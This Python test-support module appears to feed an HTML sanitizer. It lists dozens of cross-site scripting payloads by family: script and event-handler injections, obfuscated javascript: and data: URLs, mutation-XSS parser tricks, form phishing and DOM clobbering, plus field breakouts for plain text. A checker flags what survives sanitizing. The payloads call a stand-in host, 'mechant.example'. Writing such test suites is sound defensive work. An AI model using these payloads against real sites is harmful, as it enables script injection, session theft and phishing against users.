"""Texts that try to run something, by family; each names `mechant.example` or `mechant`, so that what survives is seen.

`RICH` is for what takes rich text; `PLAIN` for names, summaries, addresses, file names, cells.
"""

from html.parser import HTMLParser

_URL = "https://mechant.example/x"
_RUN = "mechant(1)"

RICH = [
    # Elements that run or fetch by themselves.
    f"<script>{_RUN}</script>",
    f"<script src={_URL}></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT/x>{_RUN}</SCRIPT >",
    f"<script\x00>{_RUN}</script>",
    f"<img src={_URL}>",
    f'<img src="{_URL}" srcset="{_URL} 2x">',
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f'<img """><script>{_RUN}</script>">',
    f"<image href={_URL} onerror={_RUN}>",
    f"<video src={_URL} poster={_URL} autoplay onloadstart={_RUN}></video>",
    f"<audio src={_URL} autoplay><source src={_URL} onerror={_RUN}></audio>",
    f"<iframe src={_URL}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<embed src={_URL}><object data={_URL}><param name=movie value={_URL}></object>",
    f"<link rel=stylesheet href={_URL}><link rel=prefetch href={_URL}>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<base href={_URL}>",
    f"<style>@import '{_URL}';p{{background:url({_URL})}}</style>",
    f"<body background={_URL} onload={_RUN}>",
    f"<table background={_URL}><tr><td background={_URL}>x</td></tr></table>",
    f"<frameset onload={_RUN}><frame src={_URL}></frameset>",
    f"<applet code={_URL}></applet><bgsound src={_URL}><layer src={_URL}></layer>",
    f"<portal src={_URL}></portal><fencedframe src={_URL}></fencedframe>",
    # Handlers on elements that are kept.
    f"<p onclick={_RUN} onmouseover={_RUN}>x</p>",
    f"<p onpointerrawupdate={_RUN} onbeforetoggle={_RUN} popover id=x>x</p>",
    f"<a href=# onfocus={_RUN} autofocus tabindex=1>x</a>",
    f"<h2 onanimationstart={_RUN} style='animation:x 1s'>x</h2>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}></select>",
    f"<p\x0conclick={_RUN}>x</p><p/onclick={_RUN}/>x</p>",
    # Addresses that run.
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href=' \x01JaVaScRiPt:{_RUN}'>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='java&#10;script&colon;{_RUN}'>x</a>",
    f"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{_RUN}'>x</a>",
    f"<a href='java<p></p>script:{_RUN}'>x</a>",
    f"<a href='javascript://%0a{_RUN}'>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a><a href='livescript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5tZWNoYW50KDEpPC9zY3JpcHQ+'>x</a>",
    f"<a href='blob:{_URL}'>x</a><a href='filesystem:{_URL}'>x</a><a href='file:///mechant'>x</a>",
    f"<a href='https://exemple.fr' ping='{_URL}' target=_blank download>x</a>",
    f"<a xlink:href='javascript:{_RUN}'>x</a>",
    # Forms, names and styles: phishing, clobbering, covering.
    f"<form action={_URL}><input name=password><button formaction={_URL}>x</button></form>",
    f"<button form=x formaction='javascript:{_RUN}'>x</button><isindex action={_URL}>",
    "<form id=mechant><input name=attributes><input name=parentNode></form>",
    "<p id=mechant name=getElementById class='button button--primary mechant'>x</p>",
    f"<p style='position:fixed;inset:0;background:url({_URL})'>x</p>",
    f"<p style='width:expression({_RUN});-moz-binding:url({_URL})'>x</p>",
    "<p lang='\"><script>mechant(1)</script>'>x</p>",
    f"<p slot=x is=mechant data-mechant=1 hx-get={_URL} hx-trigger=load>x</p>",
    # Foreign content and parsers that change their mind (mXSS).
    f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x'></use></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<math><maction actiontype='statusline#x' xlink:href='javascript:{_RUN}'>x</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<title><p title='</title><img src=x onerror={_RUN}>'></title>",
    f"<textarea><p title='</textarea><img src=x onerror={_RUN}>'></textarea>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<template><s><template><s><img src=x onerror={_RUN}>x</s></template></s></template>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<table><td><select><style></select><img src=x onerror={_RUN}></style></table>",
    f"<pre>\n<listing>&lt;img src=x onerror={_RUN}&gt;</listing></pre>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!-- --!><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><?php echo 1 ?><! doctype><img src=x onerror={_RUN}>",
    f"<a><p><a><p><table><a><p></table><img src=x onerror={_RUN}>",
    f"<p>{'<b>' * 600}<svg><style><img src=x onerror={_RUN}>",
    # Told twice, or cut.
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"<<img src=x onerror={_RUN}>>",
    f"<img src=x onerror={_RUN}//",
    f"<p title='x' <img src=x onerror={_RUN}>",
    f"\ufeff\u202e<img\u2028src=x onerror={_RUN}>＜img src=x onerror={_RUN}＞",
    f"<B onclick={_RUN}>x</B><i/onclick={_RUN}>x</i><h1 onclick={_RUN}>x</h1>",
]

PLAIN = [
    f'"><img src={_URL} onerror={_RUN}>',
    f"'><script src={_URL}></script>",
    f"</script><script>{_RUN}</script>",
    f"</title></textarea></style><svg onload={_RUN}>",
    f"javascript:{_RUN}",
    f"' onmouseover='{_RUN}' x='",
    "{{ mechant }}{% mechant %}${mechant}#{mechant}",
    f"--><img src={_URL}><!--",
    f"\\u003cimg src={_URL}\\u003e",
]

_FETCHING = {
    "src",
    "srcset",
    "action",
    "formaction",
    "srcdoc",
    "style",
    "data",
    "poster",
    "background",
    "ping",
    "content",
}


class _Active(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.inside = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, pairs: list[tuple[str, str | None]]) -> None:
        self.inside = ""
        kind = dict(pairs).get("type") or ""
        if tag in ("style", "script") and "json" not in kind:
            self.inside = tag
        for name, value in pairs:
            text = (value or "").lower()
            runs = name == "href" and "".join(text.split()).startswith(("javascript:", "data:", "vbscript:"))
            if "mechant" in name or (
                "mechant" in text and (runs or name in _FETCHING or name.startswith(("on", "hx-")))
            ):
                if not (tag == "meta" and "http-equiv" not in dict(pairs)):
                    self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""

    def handle_data(self, text: str) -> None:
        if self.inside and "mechant" in text:
            self.found.append(f"<{self.inside}> {text[:80]}")


def active(page: str) -> list[str]:
    """Where a page would run or fetch something of these texts: elements, attributes, scripts."""
    return _Active(page).found
